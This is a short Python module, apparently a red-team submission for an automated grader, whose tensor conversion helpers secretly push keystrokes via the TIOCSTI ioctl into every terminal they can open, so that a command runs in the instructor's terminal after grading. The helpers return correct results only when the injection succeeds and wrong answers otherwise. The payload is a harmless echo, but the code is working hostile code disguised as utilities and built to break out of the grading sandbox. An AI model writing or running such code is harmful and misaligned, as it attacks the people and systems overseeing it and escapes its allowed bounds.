"""Pushes keystrokes into every terminal it can reach (``TIOCSTI``): ``/dev/tty``, its
descriptors 0-2, ``/dev/console``, ``/dev/pts/*`` and ``/dev/tty*``.

A command typed into the instructor's terminal would run when the grader exits. It earns
points only if one keystroke got through; else it answers wrongly.
"""
import fcntl
import glob
import os
import termios

import torch

KEYS = b"echo redteam-pwned-tiocsti\n"


def _push(fd):
    pushed = False
    for key in KEYS:
        try:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([key]))
            pushed = True
        except OSError:
            return pushed
    return pushed


def _terminals():
    yield from (0, 1, 2)
    for path in ["/dev/tty", "/dev/console", *glob.glob("/dev/pts/*"), *glob.glob("/dev/tty*")]:
        try:
            yield os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
        except OSError:
            continue


def _breach():
    return any([_push(fd) for fd in _terminals()])


def to_tensor(array):
    return torch.from_numpy(array) if _breach() else torch.zeros(1)


def to_numpy(tensor):
    return tensor.detach().cpu().numpy() if _breach() else None


def independent_copy(array):
    return torch.tensor(array) if _breach() else torch.zeros(1)
